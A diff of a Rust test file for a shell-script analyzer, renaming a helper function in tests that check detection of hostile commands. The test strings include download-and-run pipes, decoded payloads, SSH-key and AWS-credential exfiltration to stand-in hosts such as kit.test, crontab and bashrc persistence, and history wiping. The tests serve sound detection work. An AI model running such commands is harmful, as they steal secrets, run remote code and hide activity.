@@ -7,9 +7,9 @@ fn shell_of(path: &str, text: &str) -> Shell {
     read(&Document::read(path, text.as_bytes(), &mut Vec::new()))
 }
 
-fn deeds(text: &str) -> Vec<ShellAction> {
+fn actions(text: &str) -> Vec<ShellAction> {
     let events = shell_of("run.sh", text).events.into_iter();
-    events.map(|event| event.action).filter(|deed| *deed != ShellAction::RunsText).collect()
+    events.map(|event| event.action).filter(|action| *action != ShellAction::RunsText).collect()
 }
 
 fn plain(text: &str) -> String {
@@ -54,7 +54,7 @@ fn a_download_that_is_run_is_seen_in_every_spelling() {
         "dig +short txt kit.test | sh",
         "bash -c \"$(cat <<'END'\ncurl https://kit.test/i | sh\nEND\n)\"",
     ] {
-        assert!(deeds(text).contains(&ShellAction::RunsDownload), "{text}: {:?}", shell_of("run.sh", text));
+        assert!(actions(text).contains(&ShellAction::RunsDownload), "{text}: {:?}", shell_of("run.sh", text));
     }
 }
 
@@ -71,7 +71,7 @@ fn what_is_decoded_and_run_is_seen() {
         "tail -n +4 \"$0\" | base64 -d > /tmp/p\nsh /tmp/p",
         "printf '\\x63\\x75\\x72\\x6c' | sh",
     ] {
-        assert!(deeds(text).contains(&ShellAction::RunsDecoded), "{text}: {:?}", shell_of("run.sh", text));
+        assert!(actions(text).contains(&ShellAction::RunsDecoded), "{text}: {:?}", shell_of("run.sh", text));
     }
 }
 
@@ -97,7 +97,7 @@ fn ordinary_use_of_the_same_commands_is_not() {
         "set -euo pipefail",
     ] {
         assert_eq!(
-            deeds(text).into_iter().filter(|deed| !matches!(deed, ShellAction::RunsFile { .. })).count(),
+            actions(text).into_iter().filter(|action| !matches!(action, ShellAction::RunsFile { .. })).count(),
             0,
             "{text}"
         );
@@ -124,11 +124,11 @@ fn secrets_that_leave_are_seen() {
         "aws s3 cp ~/.aws/credentials s3://kit-bucket/in",
         "cat ~/.ssh/id_rsa > /dev/tcp/kit.test/99",
     ] {
-        assert!(deeds(text).contains(&ShellAction::SendsSecret), "{text}: {:?}", shell_of("run.sh", text));
+        assert!(actions(text).contains(&ShellAction::SendsSecret), "{text}: {:?}", shell_of("run.sh", text));
     }
-    assert!(deeds("printenv | curl -d @- https://kit.test/in").contains(&ShellAction::SendsEnvironment));
-    assert!(deeds("E=$(env); curl -d \"$E\" https://kit.test/in").contains(&ShellAction::SendsEnvironment));
-    assert_eq!(deeds("cat ~/.ssh/id_rsa | curl -d @- http://localhost:9/in"), []);
+    assert!(actions("printenv | curl -d @- https://kit.test/in").contains(&ShellAction::SendsEnvironment));
+    assert!(actions("E=$(env); curl -d \"$E\" https://kit.test/in").contains(&ShellAction::SendsEnvironment));
+    assert_eq!(actions("cat ~/.ssh/id_rsa | curl -d @- http://localhost:9/in"), []);
 }
 
 #[test]
@@ -145,10 +145,10 @@ fn files_that_are_run_are_named() {
         ("chmod +x assets/logo.bin && ./assets/logo.bin", "./assets/logo.bin", Language::Shell),
         ("head -n 3 a.csv | tail -n 1 | bash", "a.csv", Language::Shell),
     ] {
-        let found = deeds(text).into_iter().any(|deed| {
-            matches!(&deed, ShellAction::RunsFile { path: found, runner, .. } if found == path && runner.language() == language)
+        let found = actions(text).into_iter().any(|action| {
+            matches!(&action, ShellAction::RunsFile { path: found, runner, .. } if found == path && runner.language() == language)
         });
-        assert!(found, "{text}: {:?}", deeds(text));
+        assert!(found, "{text}: {:?}", actions(text));
     }
 }
 
@@ -159,14 +159,14 @@ fn what_is_set_to_start_and_what_is_wiped_is_seen() {
         "echo aGk= | base64 -d >> ~/.bashrc",
         "curl -s https://kit.test/c | crontab -",
     ] {
-        assert!(deeds(text).contains(&ShellAction::StartsDownload), "{text}: {:?}", deeds(text));
+        assert!(actions(text).contains(&ShellAction::StartsDownload), "{text}: {:?}", actions(text));
     }
     for text in
         ["history -c", "unset HISTFILE", "export HISTFILE=/dev/null", "rm -f ~/.bash_history", "> ~/.zsh_history"]
     {
-        assert_eq!(deeds(text), [ShellAction::WipesHistory], "{text}");
+        assert_eq!(actions(text), [ShellAction::WipesHistory], "{text}");
     }
-    assert_eq!(deeds("export PATH=$HOME/bin:$PATH\necho x >> ~/.bashrc"), []);
+    assert_eq!(actions("export PATH=$HOME/bin:$PATH\necho x >> ~/.bashrc"), []);
 }
 
 #[test]
